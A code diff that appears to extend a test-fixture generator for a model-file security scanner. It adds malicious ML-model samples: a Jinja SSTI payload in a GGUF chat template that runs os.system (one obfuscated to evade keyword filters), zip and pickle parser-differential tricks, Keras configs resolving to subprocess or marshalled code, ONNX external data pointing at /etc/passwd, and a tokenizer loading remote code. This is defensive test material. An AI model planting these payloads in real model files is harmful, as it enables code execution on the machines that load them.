@@ -1623,7 +1623,7 @@ def _npz_object(c: Path) -> bytes:
 
 def _joblib_dump(compress: Any) -> Builder:
     def build(path: Path, canary: Path) -> None:
-        import joblib  # type: ignore[import-untyped]
+        import joblib
 
         path.parent.mkdir(parents=True, exist_ok=True)
         joblib.dump({"model": _evil(canary)}, str(path), compress=compress)
@@ -1895,6 +1895,235 @@ def _whole_module_tampered(c: Path) -> bytes:
     model = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())
     model._modules["2"] = _evil(c)  # type: ignore[assignment]
     return _torch_save_bytes(model)
+
+
+def _zip_duplicate_names(c: Path) -> bytes:
+    # Two central-directory entries named data.pkl, clean first, payload last: a scanner that
+    # dedupes names or stops at the first match sees the clean one; PyTorch loads the last.
+    import torch
+
+    data = _torch_evil_zip(c)
+    src = zipfile.ZipFile(io.BytesIO(data))
+    member = _torch_zip_member_name(data, "/data.pkl")
+    clean_zip = _torch_save_bytes({"weight": torch.zeros(2)})
+    clean = zipfile.ZipFile(io.BytesIO(clean_zip))
+    clean_pkl = clean.read(_torch_zip_member_name(clean_zip, "/data.pkl"))
+    buf = io.BytesIO()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name we want
+        with zipfile.ZipFile(buf, "w") as z:
+            z.writestr(member, clean_pkl)
+            for n in src.namelist():
+                if n != member:
+                    z.writestr(n, src.read(n))
+            z.writestr(member, src.read(member))
+    return buf.getvalue()
+
+
+def _polyglot_pickle_zip(c: Path) -> bytes:
+    # torch.load sees no zip magic at offset 0 and unpickles the prefix with the legacy reader;
+    # zip tools find the end-of-central-directory record and see a clean checkpoint.
+    import torch
+
+    return pickle.dumps(_evil(c), protocol=2) + _torch_save_bytes({"weight": torch.zeros(2)})
+
+
+def _npy_v3(c: Path) -> bytes:
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * ((64 - (12 + len(header) + 1) % 64) % 64) + "\n"
+    body = pickle.dumps([_evil(c)], protocol=3)
+    return b"\x93NUMPY\x03\x00" + struct.pack("<I", len(header)) + header.encode() + body
+
+
+def _gzip_multimember(c: Path) -> bytes:
+    raw = pickle.dumps(_evil(c), protocol=4)
+    return gzip.compress(raw[:2], mtime=0) + gzip.compress(raw[2:], mtime=0)
+
+
+def _gguf_named_template(c: Path) -> bytes:
+    tmpl = (
+        "{% for x in ().__class__.__base__.__subclasses__() %}"
+        "{% if 'warning' in x.__name__ %}"
+        "{{ x()._module.__builtins__['__import__']('os').system('touch " + str(c) + "') }}"
+        "{% endif %}{% endfor %}"
+    )
+    return gguf_bytes(
+        {
+            "general.architecture": "llama",
+            "tokenizer.chat_template": "{{ messages[0]['content'] }}",
+            "tokenizer.chat_template.tool_use": tmpl,
+        }
+    )
+
+
+def _gguf_obfuscated(c: Path) -> bytes:
+    # No dunder appears literally: names are concatenated and reached through the attr filter.
+    tmpl = (
+        "{% set b = (()|attr('__cla'~'ss__'))|attr('__ba'~'se__') %}"
+        "{% for x in (b|attr('__subcla'~'sses__'))() %}"
+        "{% if 'warn' in (x|attr('__na'~'me__')) %}"
+        "{{ ((x()|attr('_mod'~'ule')|attr('__buil'~'tins__'))['__imp'~'ort__']('o'~'s')"
+        "|attr('sys'~'tem'))('touch " + str(c) + "') }}"
+        "{% endif %}{% endfor %}"
+    )
+    return gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": tmpl})
+
+
+def _keras_activation_ref(c: Path) -> bytes:
+    dense = {
+        "module": "keras.layers",
+        "class_name": "Dense",
+        "config": {
+            "name": "dense",
+            "units": 2,
+            "activation": {
+                "module": "subprocess",
+                "class_name": "function",
+                "config": "getoutput",
+                "registered_name": "function",
+            },
+        },
+    }
+    config = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {"name": "s", "layers": [dense]},
+    }
+    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@12:00:00"}
+    return _zip_bytes(
+        {"metadata.json": json.dumps(meta).encode(), "config.json": json.dumps(config).encode()}
+    )
+
+
+def _keras_nested_lambda(c: Path) -> bytes:
+    code_b64 = base64.b64encode(marshal.dumps(_lambda_code(c))).decode()
+    lam = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": {
+            "name": "inner_lambda",
+            "function": {
+                "module": "builtins",
+                "class_name": "function",
+                "config": code_b64,
+                "registered_name": "function",
+            },
+            "arguments": {},
+        },
+    }
+    inner = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {"name": "block", "layers": [lam]},
+    }
+    outer = {
+        "module": "keras",
+        "class_name": "Functional",
+        "config": {
+            "name": "model",
+            "layers": [
+                {
+                    "module": "keras.layers",
+                    "class_name": "InputLayer",
+                    "config": {"batch_shape": [None, 4], "name": "in"},
+                },
+                inner,
+            ],
+        },
+    }
+    meta = {"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}
+    return _zip_bytes(
+        {"metadata.json": json.dumps(meta).encode(), "config.json": json.dumps(outer).encode()}
+    )
+
+
+def _h5_lambda_bytes_attr(path: Path, c: Path) -> None:
+    import h5py
+    import numpy as np
+
+    code_b64 = base64.b64encode(marshal.dumps(_lambda_code(c))).decode()
+    config = {
+        "class_name": "Functional",
+        "config": {
+            "name": "m",
+            "layers": [
+                {
+                    "class_name": "Lambda",
+                    "name": "lambda",
+                    "config": {
+                        "name": "lambda",
+                        "function": [code_b64, None, None],
+                        "function_type": "lambda",
+                        "arguments": {},
+                    },
+                }
+            ],
+        },
+    }
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with h5py.File(path, "w") as f:
+        f.attrs["model_config"] = np.bytes_(json.dumps(config).encode())
+        f.attrs["keras_version"] = np.bytes_(b"2.15.0")
+        f.attrs["backend"] = np.bytes_(b"tensorflow")
+        f.create_group("model_weights")
+
+
+def _onnx_external_ref(location: str, subgraph: bool) -> Builder:
+    def build(path: Path, c: Path) -> None:
+        from onnx import TensorProto, helper
+
+        t = helper.make_tensor("W", TensorProto.FLOAT, [4], [0.0, 0.0, 0.0, 0.0])
+        t.ClearField("float_data")
+        t.data_location = TensorProto.EXTERNAL
+        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
+            e = t.external_data.add()
+            e.key = k
+            e.value = v
+        x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])
+        y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
+        if not subgraph:
+            graph = helper.make_graph(
+                [helper.make_node("Add", ["X", "W"], ["Y"])], "g", [x], [y], [t]
+            )
+        else:
+            then_g = helper.make_graph(
+                [helper.make_node("Identity", ["W"], ["T"])],
+                "then",
+                [],
+                [helper.make_tensor_value_info("T", TensorProto.FLOAT, [4])],
+                [t],
+            )
+            else_g = helper.make_graph(
+                [helper.make_node("Identity", ["X"], ["E"])],
+                "else",
+                [],
+                [helper.make_tensor_value_info("E", TensorProto.FLOAT, [4])],
+            )
+            cond = helper.make_tensor_value_info("C", TensorProto.BOOL, [])
+            node = helper.make_node("If", ["C"], ["Y"], then_branch=then_g, else_branch=else_g)
+            graph = helper.make_graph([node], "g", [cond, x], [y])
+        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
+        _write(path, model.SerializeToString())
+
+    return build
+
+
+def _safetensors_out_of_range(c: Path) -> bytes:
+    header = json.dumps(
+        {"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}
+    ).encode()
+    return struct.pack("<Q", len(header)) + header + bytes(16)
+
+
+def _hf_tokenizer_auto_map(path: Path, c: Path) -> None:
+    path.mkdir(parents=True, exist_ok=True)
+    _write(path / "config.json", json.dumps({"model_type": "gpt2", "n_layer": 1}).encode())
+    tok = {
+        "tokenizer_class": "EvilTokenizer",
+        "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]},
+    }
+    _write(path / "tokenizer_config.json", json.dumps(tok).encode())
+    _write(path / "tokenization_evil.py", f"{code_of(c)}\n".encode())
 
 
 def _mal_containers() -> list[_Mal]:
@@ -2242,6 +2471,114 @@ def _mal_containers() -> list[_Mal]:
             "CVE-2025-10155",
             b(_torch_evil_zip),
             trigger="torch",
+        ),
+        _Mal(
+            "zip_duplicate_member_names",
+            ".pt",
+            "two data.pkl entries, clean first and payload last (the one torch loads)",
+            "zip parser differentials (picklescan GHSA-7q5r-7gvp-wc82 class)",
+            b(_zip_duplicate_names),
+            trigger="torch",
+        ),
+        _Mal(
+            "polyglot_pickle_prefix_then_torch_zip",
+            ".pt",
+            "payload pickle prepended to a clean torch zip (torch takes the legacy path)",
+            "pickle/zip polyglots (Trail of Bits fickling polyglot research)",
+            b(_polyglot_pickle_zip),
+            trigger="torch",
+        ),
+        _Mal(
+            "npy_v3_header_object",
+            ".npy",
+            "npy format 3.0 header, object dtype pickle body",
+            "numpy format spec 3.0; CVE-2019-6446",
+            b(_npy_v3),
+            trigger="numpy",
+        ),
+        _Mal(
+            "gzip_multimember_split_pickle",
+            ".gz",
+            "payload pickle split across two gzip members",
+            "RFC 1952 multi-member streams (gzip.decompress reads all members)",
+            b(_gzip_multimember),
+            trigger="gzip_pickle",
+        ),
+        _Mal(
+            "gguf_named_chat_template_ssti",
+            ".gguf",
+            "SSTI in tokenizer.chat_template.tool_use",
+            "CVE-2024-34359; GGUF named chat templates",
+            b(_gguf_named_template),
+            trigger="jinja:tokenizer.chat_template.tool_use",
+        ),
+        _Mal(
+            "gguf_chat_template_obfuscated_attr",
+            ".gguf",
+            "SSTI with no literal dunder: |attr() and string concatenation",
+            "CVE-2024-34359 (keyword-filter bypass)",
+            b(_gguf_obfuscated),
+            trigger="jinja",
+        ),
+        _Mal(
+            "keras_activation_function_reference",
+            ".keras",
+            "Dense activation deserialised from module subprocess, function getoutput",
+            "CVE-2025-1550 / CVE-2025-9906 (Keras config function references)",
+            b(_keras_activation_ref),
+            trigger=None,
+        ),
+        _Mal(
+            "keras_lambda_nested_in_functional",
+            ".keras",
+            "Lambda inside a Sequential inside a Functional",
+            "CVE-2024-3660 (nested configs)",
+            b(_keras_nested_lambda),
+            trigger=None,
+        ),
+        _Mal(
+            "h5_lambda_config_bytes_attr",
+            ".h5",
+            "Keras 2 HDF5, model_config stored as bytes",
+            "CVE-2024-3660; h5py bytes attributes",
+            _h5_lambda_bytes_attr,
+            trigger=None,
+        ),
+        _Mal(
+            "onnx_external_data_absolute_path",
+            ".onnx",
+            "external_data location /etc/passwd",
+            "CVE-2024-27318",
+            _onnx_external_ref("/etc/passwd", False),
+            trigger=None,
+            canary=False,
+        ),
+        _Mal(
+            "onnx_external_data_in_if_subgraph",
+            ".onnx",
+            "traversing external data in an If branch",
+            "CVE-2024-5187 (subgraph initializers)",
+            _onnx_external_ref("../../../etc/passwd", True),
+            trigger=None,
+            canary=False,
+        ),
+        _Mal(
+            "safetensors_offsets_out_of_range",
+            ".safetensors",
+            "data_offsets beyond the file end",
+            "safetensors spec (bounds check)",
+            b(_safetensors_out_of_range),
+            trigger=None,
+            canary=False,
+        ),
+        _Mal(
+            "hf_folder_tokenizer_auto_map",
+            "",
+            "tokenizer_config.json auto_map + tokenization_evil.py",
+            "Hugging Face trust_remote_code via AutoTokenizer",
+            _hf_tokenizer_auto_map,
+            trigger="python_file:tokenization_evil.py",
+            folder=True,
         ),
     ]
 
@@ -2760,6 +3097,87 @@ def _gguf_clean(path: Path) -> None:
     )
 
 
+def _dcp_checkpoint(path: Path) -> None:
+    from torch.distributed.checkpoint.state_dict_saver import save as dcp_save
+
+    path.mkdir(parents=True, exist_ok=True)
+    dcp_save({"model": _sd_float()}, checkpoint_id=str(path))
+
+
+def _accelerate_state(path: Path) -> None:
+    import torch
+    from accelerate import Accelerator  # type: ignore[import-untyped]
+
+    acc = Accelerator(cpu=True)
+    net = _tiny_net()
+    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
+    net, opt = acc.prepare(net, opt)
+    acc.backward(net(torch.randn(3, 4)).sum())
+    opt.step()
+    acc.save_state(str(path))
+
+
+def _np_masked() -> Any:
+    import numpy as np
+
+    return {
+        "masked": np.ma.array([1.0, 2.0, 3.0], mask=[False, True, False]),
+        "matrix": np.asmatrix(np.eye(2)),
+        "rec": np.rec.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]),
+    }
+
+
+def _torch_exotic_dtypes() -> Any:
+    import torch
+
+    return {
+        "f8e4m3": torch.zeros(4).to(torch.float8_e4m3fn),
+        "f8e5m2": torch.zeros(4).to(torch.float8_e5m2),
+        "u16": torch.zeros(4, dtype=torch.uint16),
+        "u32": torch.zeros(4, dtype=torch.uint32),
+        "i8": torch.zeros(4, dtype=torch.int8),
+        "strided": torch.arange(12.0).reshape(3, 4).t(),
+        "channels_last": torch.zeros(1, 3, 2, 2).to(memory_format=torch.channels_last),
+        "meta_generator_state": torch.Generator().manual_seed(1).get_state(),
+    }
+
+
+def _torch_parametrized() -> Any:
+    import torch
+    from torch.nn.utils import parametrizations
+
+    torch.manual_seed(0)
+    lin = parametrizations.weight_norm(torch.nn.Linear(4, 2))
+    return torch.nn.Sequential(
+        lin, torch.nn.GELU(), torch.nn.BatchNorm1d(2), torch.nn.Embedding(5, 2)
+    )
+
+
+def _sklearn_more(path: Path) -> None:
+    import joblib
+    import numpy as np
+    from sklearn.cluster import KMeans  # type: ignore[import-untyped]
+    from sklearn.compose import ColumnTransformer  # type: ignore[import-untyped]
+    from sklearn.ensemble import GradientBoostingClassifier
+    from sklearn.preprocessing import OneHotEncoder
+    from sklearn.svm import SVC  # type: ignore[import-untyped]
+    from sklearn.tree import DecisionTreeRegressor  # type: ignore[import-untyped]
+
+    rng = np.random.RandomState(0)
+    x = rng.randn(30, 3)
+    y = (x[:, 0] > 0).astype(int)
+    cats = np.array([["a"], ["b"], ["a"]] * 10)
+    models = {
+        "kmeans": KMeans(n_clusters=2, n_init=1, random_state=0).fit(x),
+        "svc": SVC(probability=False).fit(x, y),
+        "tree": DecisionTreeRegressor(max_depth=2).fit(x, x[:, 1]),
+        "gb": GradientBoostingClassifier(n_estimators=3, max_depth=1).fit(x, y),
+        "ct": ColumnTransformer([("oh", OneHotEncoder(), [0])]).fit(cats),
+    }
+    path.parent.mkdir(parents=True, exist_ok=True)
+    joblib.dump(models, str(path))
+
+
 def _clean_specs() -> list[_Clean]:
     protos = [
         _Clean(
@@ -2934,6 +3352,44 @@ def _clean_specs() -> list[_Clean]:
             ".tar.gz",
             "gzip tarfile of npy/pt/safetensors",
             _archive_of_clean("tar.gz"),
+        ),
+        _Clean(
+            "torch_distributed_checkpoint",
+            "",
+            "torch.distributed.checkpoint.save (DCP folder)",
+            _dcp_checkpoint,
+            folder=True,
+        ),
+        _Clean(
+            "accelerate_save_state",
+            "",
+            "accelerate.Accelerator.save_state after one step",
+            _accelerate_state,
+            folder=True,
+        ),
+        _Clean(
+            "numpy_masked_matrix_record",
+            ".pkl",
+            "pickle of numpy masked array/matrix/recarray",
+            _pdump(_np_masked, 2),
+        ),
+        _Clean(
+            "torch_exotic_dtypes",
+            ".pt",
+            "torch float8/uint16/uint32, strided views, Generator state",
+            _tsave(_torch_exotic_dtypes),
+        ),
+        _Clean(
+            "torch_parametrized_module",
+            ".pt",
+            "state_dict of a module with weight_norm parametrization",
+            _tsave(lambda: _torch_parametrized().state_dict()),
+        ),
+        _Clean(
+            "sklearn_more_estimators",
+            ".joblib",
+            "joblib.dump of KMeans/SVC/DecisionTree/GradientBoosting/ColumnTransformer",
+            _sklearn_more,
         ),
         _Clean(
             "gguf_chatml_template",
